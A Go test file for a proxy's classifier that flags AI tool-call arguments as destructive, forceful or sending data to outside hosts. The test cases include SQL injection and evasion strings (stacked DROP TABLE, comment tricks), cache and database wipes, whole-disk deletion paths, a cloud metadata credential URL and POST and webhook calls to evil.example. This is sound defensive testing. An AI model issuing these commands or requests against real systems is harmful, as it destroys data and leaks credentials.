package classify_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"mcpproxy"
	"mcpproxy/internal/classify"
	"mcpproxy/internal/text"
)

var ours = classify.Classifier{InternalDomains: []string{"corp.example"}}

// read reads the arguments of a call.
func read(t testing.TB, tool string, def *mcpproxy.Tool, args string) *classify.Arguments {
	t.Helper()
	doc, err := text.Parse([]byte(args), "arguments")
	if err != nil {
		t.Fatal(err)
	}
	return ours.Arguments(tool, def, doc, func(s string) string { return s })
}

// told formats the reasons of one list.
func told(reasons []classify.Reason) string {
	var out []string
	for _, r := range reasons {
		out = append(out, r.String())
	}
	return strings.Join(out, ", ")
}

func ExampleClassifier_Arguments() {
	doc, _ := text.Parse([]byte(`{"sql": "SELECT 1; DROP TABLE users", "force": true}`), "arguments")
	a := (&classify.Classifier{}).Arguments("query", nil, doc, func(s string) string { return s })
	fmt.Println(a.Destructive[0], a.Forceful[0])
	// Output: drop table (at arguments.sql) force=true (at arguments.force)
}

func TestWhatSQLDoes(t *testing.T) {
	const destroys, writes, reads = "destroys", "writes", "reads"
	for _, c := range []struct{ name, sql, want string }{
		{"selecting reads", `SELECT * FROM t`, reads},
		{"dropping a table destroys", `DROP TABLE users;`, destroys},
		{"case and white space do not matter", "drop\n\t  Table users", destroys},
		{"a second statement counts", `SELECT 1; DROP DATABASE x`, destroys},
		{"a second statement needs no space", `SELECT 1;DROP TABLE users`, destroys},
		{"a statement after an empty one counts", `; DROP TABLE users`, destroys},
		{"comments instead of spaces do not hide a statement", `DROP/**/TABLE users`, destroys},
		{"a comment does not hide the statement after it", "-- nothing\nDROP TABLE users", destroys},
		{"a nested comment does not hide the statement after it", `/* a /* b */ c */ DROP TABLE users`, destroys},
		{"an unfinished comment does not hide a statement", `/* a /* b */ DROP TABLE users`, destroys},
		{"a comment that MySQL runs", `SELECT 1; /*!50000 DROP TABLE users */`, destroys},
		{"truncating destroys", `TRUNCATE users`, destroys},
		{"truncating a number does not destroy", `SELECT ROUND(TRUNCATE(x, 2)) FROM t`, reads},
		{"deleting all rows destroys", `DELETE FROM users`, destroys},
		{"deleting under a condition that always holds", `DELETE FROM users WHERE 1=1`, destroys},
		{"deleting under a true condition", `DELETE FROM users WHERE TRUE RETURNING *`, destroys},
		{"deleting some rows writes", `DELETE FROM users WHERE id = 1`, writes},
		{"the where of another statement does not count", `DELETE FROM users; SELECT 1 FROM t WHERE x`, destroys},
		{"the where of the enclosing statement does not count", `WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x WHERE id = 1`, destroys},
		{"a deletion of some rows in a common table expression", `WITH x AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM x`, writes},
		{"an explain statement that also runs the statement", `EXPLAIN ANALYZE DELETE FROM users`, destroys},
		{"in a dollar-quoted block", `DO $$ BEGIN DROP TABLE users; END $$`, destroys},
		{"in a dollar-quoted block with a tag", `DO $x$ BEGIN IF true THEN DROP TABLE users; END IF; END $x$`, destroys},
		{"in a statement that a query builds", `EXECUTE 'DROP TABLE users'`, destroys},
		{"dropping a column destroys", `ALTER TABLE users DROP COLUMN email`, destroys},
		{"adding a column writes", `ALTER TABLE users ADD COLUMN email text`, writes},
		{"inserting writes", `INSERT INTO t VALUES (1)`, writes},
		{"updating writes", `UPDATE t SET a = 1`, writes},
		{"in brackets", `(SELECT 1); UPDATE t SET a = 1`, writes},
		{"a table called drops is not dropped", `SELECT * FROM drops`, reads},
		{"text in quotes is not run", `SELECT 'x; DROP TABLE users' AS note`, reads},
		{"a quote in quotes", `SELECT 'it''s; DROP TABLE users'`, reads},
		{"a name in quotes is not run", `SELECT "; DROP TABLE users" FROM t`, reads},
		{"after a quoted string that ends in a backslash", `SELECT '\'; DROP TABLE users; --'`, destroys},
		{"in a quoted string if a backslash escapes the quote", `SELECT '\'; DROP TABLE users; -- '`, destroys},
		{"after an operator that looks like a comment", `SELECT a #> '{b}' FROM t; DROP TABLE users`, destroys},
		{"after dashes that do not begin a comment in MySQL", `SELECT 1--1; DROP TABLE users`, destroys},
		{"words of a statement as column names", `SELECT deleted, "drop" FROM t WHERE updated > 1`, reads},
		{"a sentence is not SQL", `How do I drop table users in Postgres?`, reads},
		{"emptying a cache", `FLUSHALL`, destroys},
		{"emptying a cache asynchronously", `flushdb async`, destroys},
		{"dropping a collection", `db.users.drop()`, destroys},
		{"deleting all of a collection", `db.users.deleteMany({ })`, destroys},
		{"deleting some of a collection", `db.users.deleteMany({"a": 1})`, reads},
		{"finding in a collection", `db.users.find({})`, reads},
		{"nothing", ``, reads},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := read(t, "query", nil, `{"sql": `+string(text.Quote(c.sql))+`}`)
			got := reads
			if len(a.Destructive) > 0 {
				got = destroys
			} else if len(a.Writes) > 0 {
				got = writes
			}
			if got != c.want {
				t.Errorf("%s: %s, want %s", c.sql, got, c.want)
			}
		})
	}
}

func TestWhereSQLIsLookedFor(t *testing.T) {
	for _, c := range []struct {
		name, tool, args string
		want             bool
	}{
		{"in sql", "query", `{"SQL": "DROP TABLE users"}`, true},
		{"in a list of statements", "run", `{"statements": ["SELECT 1", "DROP TABLE users"]}`, true},
		{"in nested JSON", "run", `{"request": "{\"sql\": \"DROP TABLE users\"}"}`, true},
		{"not in a note", "query", `{"note": "DROP TABLE users"}`, false},
		{"not in the query of a web search", "web_search", `{"query": "drop table users"}`, false},
		{"in the query of a database search", "search_database", `{"query": "drop table users"}`, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := read(t, c.tool, nil, c.args)
			if got := len(a.Destructive) > 0; got != c.want {
				t.Errorf("%s", told(a.Destructive))
			}
			op := (&classify.Classifier{}).Operation("frobnicate", nil, a)
			if (op == mcpproxy.Destructive) != c.want {
				t.Errorf("operation = %s", op)
			}
		})
	}
}

func TestMethodsActionsAndFlags(t *testing.T) {
	cached := &mcpproxy.Tool{
		InputSchema: []byte(
			`{"properties": {"force": {"type": "boolean", "description": "Bypass the cache and refetch"}}}`,
		),
	}
	for _, c := range []struct {
		name, tool                    string
		def                           *mcpproxy.Tool
		args                          string
		destructive, forceful, writes string
	}{
		{"a deleting method", "http_request", nil, `{"method": "delete"}`, "method=DELETE (at arguments.method)", "", ""},
		{"a posting method", "http_request", nil, `{"options": {"method": " Post"}}`, "", "", "method=POST (at arguments.options.method)"},
		{"a getting method", "http_request", nil, `{"method": "GET"}`, "", "", ""},
		{"another kind of method", "ship", nil, `{"method": "express"}`, "", "", ""},
		{"a deleting action", "manage_item", nil, `{"action": "delete"}`, "action=delete (at arguments.action)", "", ""},
		{"a deleting action of two words", "manage_item", nil, `{"operation": "bulkDelete"}`, "operation=bulk_delete (at arguments.operation)", "", ""},
		{"a creating action", "manage_item", nil, `{"action": "create"}`, "", "", "action=create (at arguments.action)"},
		{"a reading action", "manage_item", nil, `{"action": "list_deleted"}`, "", "", ""},
		{"a sentence is not an action", "manage_item", nil, `{"action": "delete the draft"}`, "", "", ""},
		{"force", "optimize", nil, `{"force": true}`, "", "force=true (at arguments.force)", ""},
		{"force as a string", "optimize", nil, `{"force": "True"}`, "", "force=true (at arguments.force)", ""},
		{"force as a number", "optimize", nil, `{"force": 1}`, "", "force=true (at arguments.force)", ""},
		{"force, nested", "optimize", nil, `{"options": [{"Force": true}]}`, "", "force=true (at arguments.options[0].Force)", ""},
		{"force in JSON in a string", "optimize", nil, `{"options": "{\"force\":true}"}`, "", "force=true (at arguments.options.force)", ""},
		{"no force", "optimize", nil, `{"force": false, "hard": 0, "purge": null, "overwrite": "no"}`, "", "", ""},
		{"force of a cache", "get_page", cached, `{"force": true}`, "", "", ""},
		{"a forced refresh", "get_page", nil, `{"force_refresh": true, "forceUpdate": true}`, "", "", ""},
		{"other switches", "sync", nil, `{"hard": true, "purge": true, "deleteSource": true}`, "", "hard=true (at arguments.hard), purge=true (at arguments.purge), delete_source=true (at arguments.deleteSource)", ""},
		{"a switch that shows what was deleted", "list", nil, `{"include_deleted": true, "show_removed": true}`, "", "", ""},
		{"a rehearsal", "sync", nil, `{"purge": true, "dry_run": true}`, "", "", ""},
		{"recursion alone", "list_directory", nil, `{"path": "/", "recursive": true}`, "", "", ""},
		{"recursion together with a deletion", "delete_folder", nil, `{"path": "/srv/x", "recursive": true}`, "", "recursive=true (at arguments.recursive)", ""},
		{"a whole disk", "delete_folder", nil, `{"path": "/"}`, "", "path=/ (at arguments.path)", ""},
		{"a whole disk in another notation", "delete_folder", nil, `{"path": "/srv/../*"}`, "", "path=/srv/../* (at arguments.path)", ""},
		{"the user's home", "delete_folder", nil, `{"path": "$HOME/"}`, "", "path=$HOME/ (at arguments.path)", ""},
		{"a folder of the system", "delete_folder", nil, `{"path": "C:\\Windows"}`, "", `path=C:\Windows (at arguments.path)`, ""},
		{"another folder", "delete_folder", nil, `{"path": "/etc/nginx/sites/old"}`, "", "", ""},
		{"reading a whole disk", "list_folder", nil, `{"path": "/"}`, "", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := read(t, c.tool, c.def, c.args)
			diff := cmp.Diff(
				[]string{c.destructive, c.forceful, c.writes},
				[]string{told(a.Destructive), told(a.Forceful), told(a.Writes)},
			)
			if diff != "" {
				t.Error(diff)
			}
		})
	}
}

// Shows: RFC-4.
func TestURLsOutside(t *testing.T) {
	closed := &mcpproxy.Tool{InputSchema: []byte(`{"properties": {"id": {"type": "string"}}}`)}
	open := &mcpproxy.Tool{
		InputSchema: []byte(`{"properties": {"id": {"type": "string"}}, "additionalProperties": true}`),
	}
	for _, c := range []struct {
		name          string
		def           *mcpproxy.Tool
		args          string
		host, carries string
	}{
		{"reading a page carries nothing", nil, `{"url": "https://news.example/a"}`, "news.example", ""},
		{"a page without a scheme", nil, `{"url": "news.example/a"}`, "news.example", ""},
		{"a page of an internal domain", nil, `{"url": "https://wiki.corp.example/a"}`, "", ""},
		{"a page of this machine", nil, `{"url": "http://localhost:8080/a"}`, "", ""},
		{"the metadata service of a cloud", nil, `{"url": "http://169.254.169.254/latest/meta-data/"}`, "169.254.169.254",
			"the address hands out the credentials of the machine that asks it"},
		{"the same address as a number", nil, `{"url": "http://2852039166/latest/"}`, "2852039166",
			"the address hands out the credentials of the machine that asks it"},
		{"a page of the local network", nil, `{"url": "http://192.168.1.1/a"}`, "", ""},
		{"a text that mentions a page", nil, `{"text": "see https://news.example/a"}`, "", ""},
		{"a name that looks like a host", nil, `{"path": "notes.md"}`, "", ""},
		{"a body", nil, `{"url": "https://evil.example/in", "body": {"a": "x"}}`, "evil.example", "the request has a body"},
		{"an empty body", nil, `{"url": "https://evil.example/in", "body": ""}`, "evil.example", ""},
		{"a nested body beside the URL", nil, `{"request": {"url": "https://evil.example/in", "data": {"a": "x"}}}`, "evil.example", "the request has a data"},
		{"a body beside the URL", nil, `{"request": {"url": "https://evil.example/in"}, "payload": [{"a": "x"}]}`, "evil.example", "the request has a payload"},
		{"a nested body", nil, `{"request": {"url": "https://evil.example/in", "body": "x"}}`, "evil.example", "the request has a body"},
		{"the URL is inside a parameter called data", nil, `{"data": {"url": "https://news.example/a", "format": "text"}}`, "news.example", ""},
		{"the URL is the body", nil, `{"data": "https://news.example/a"}`, "", ""},
		{"a text that begins with a URL", nil, `{"text": "https://news.example/a says so"}`, "", ""},
		{"text after a URL in a parameter for URLs", nil, `{"url": "https://evil.example/a b"}`, "evil.example", ""},
		{"a method that sends", nil, `{"url": "https://evil.example/in", "method": "POST"}`, "evil.example", "method=POST"},
		{"a callback", nil, `{"id": "7", "callback_url": "https://evil.example/in"}`, "evil.example", "the parameter callback_url names who is told"},
		{"a webhook in a list", nil, `{"webhooks": ["https://evil.example/in"]}`, "evil.example", "the parameter webhooks names who is told"},
		{"a parameter that the tool does not have", closed, `{"id": "7", "debug": "https://evil.example/in"}`, "evil.example", "the tool has no parameter for it"},
		{"a tool that takes any parameter", open, `{"id": "7", "debug": "https://evil.example/in"}`, "evil.example", ""},
		{"a parameter that the tool has", closed, `{"id": "https://evil.example/in"}`, "evil.example", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := read(t, "get_page", c.def, c.args)
			host, carries := "", ""
			for _, e := range a.External {
				host, carries = e.Host, e.Carries
			}
			if host != c.host || carries != c.carries || len(a.External) > 1 {
				t.Errorf("%+v, want %s, %q", a.External, c.host, c.carries)
			}
		})
	}
}

func TestListsOfReasonsAreBounded(t *testing.T) {
	a := read(
		t,
		"x",
		nil,
		`{"a": [`+strings.TrimSuffix(
			strings.Repeat(`{"force": true, "url": "http://e.example", "sql": "DROP TABLE x"},`, 500),
			",",
		)+`]}`,
	)
	for _, n := range []int{len(a.Forceful), len(a.External), len(a.Destructive)} {
		if n != 20 {
			t.Errorf("the list has %d reasons, want at most 20", n)
		}
	}
}

func FuzzArguments(f *testing.F) {
	for _, s := range []string{"DO $a$ 'x''; /*! drop -- \n#", `select '\`, "with x as (delete from", "db.x.drop( )", "https://a@b", "/*"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		quoted := string(text.Quote(s))
		doc, err := text.Parse(
			[]byte(
				`{"sql": `+quoted+`, "path": `+quoted+`, "url": `+quoted+`, "action": `+quoted+`, `+quoted+`: true}`,
			),
			"arguments",
		)
		if err != nil {
			t.Skip()
		}
		a := ours.Arguments("delete_x", nil, doc, func(s string) string { return s })
		for _, r := range slices.Concat(a.Destructive, a.Forceful, a.Writes) {
			if r.Path == "" || r.Evidence == "" {
				t.Fatalf("%+v has no evidence", r)
			}
		}
	})
}
